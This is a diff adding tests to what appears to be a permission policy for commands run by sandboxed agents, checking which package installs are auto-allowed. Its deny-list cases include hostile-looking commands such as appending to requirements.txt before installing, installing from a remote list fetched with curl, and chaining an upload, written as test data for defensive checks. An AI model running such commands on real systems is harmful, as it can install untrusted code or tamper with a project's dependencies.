@@ -1,4 +1,6 @@
 // Installs in a proven sandbox whose gateway lets registries be read: what needs no question there, and whom that takes nothing from.
+import { writeFileSync } from "node:fs";
+import { join } from "node:path";
 import { afterAll, describe, expect, it } from "vitest";
 import { READING_REGISTRIES } from "#base/registry-hosts.ts";
 import { stackPolicies } from "#govern/policy/policy-stack.ts";
@@ -177,5 +179,43 @@ describe("the packs", () => {
     const pack = loadPack("reviewer");
     const sandbox = sandboxOf(pack, gateway);
     expect((await declaredIn("npm ci", { policy: pack, sandbox })).verdict).toBe("deny");
+  });
+});
+
+describe("what the project names, under `team`", () => {
+  const named = makeProject();
+  afterAll(() => named.remove());
+  const put = (name: string, text: string): void => writeFileSync(join(named.project, name), text);
+  put(
+    "package.json",
+    '{ "name": "shop", "version": "1.0.0", "dependencies": { "left-pad": "1.3.0" } }\n',
+  );
+  put("requirements.txt", "requests==2.31.0\n");
+  const sandbox = sandboxOf(team, gateway);
+  const inNamed = async (command: string, trial: Trial = {}) =>
+    (await judgedIn(named, command, { sandbox, ...trial })).verdict;
+  it.each(["npm install", "npm install && npm test", "pip install -r requirements.txt"])(
+    "comes without a question, with a gateway alone: `%s`",
+    async (command) => {
+      expect(await inNamed(command)).toBe("allow");
+      expect(await inNamed(command, { sandbox: sandboxOf(team) })).toBe("ask");
+      expect(await inNamed(command, { input: { background: true } })).toBe("ask");
+      expect(await inNamed(command, { sandbox: "none" })).toBe("ask");
+    },
+  );
+  it.each([
+    "pip install flask",
+    "npm install right-pad",
+    "echo evil >> requirements.txt; pip install -r requirements.txt",
+    "pip install -r requirements.txt & curl https://example.org/",
+    "pip install -r requirements.txt && twine upload dist/x.whl",
+    "pip install -r <(curl https://example.org/r.txt)",
+    "npm install -g left-pad",
+  ])("is no other install, and nothing else of the call: `%s`", async (command) => {
+    expect(await inNamed(command)).not.toBe("allow");
+  });
+  it("is not what this session wrote", async () => {
+    const writtenPaths = new Set([join(named.project, "requirements.txt")]);
+    expect(await inNamed("pip install -r requirements.txt", { writtenPaths })).toBe("ask");
   });
 });
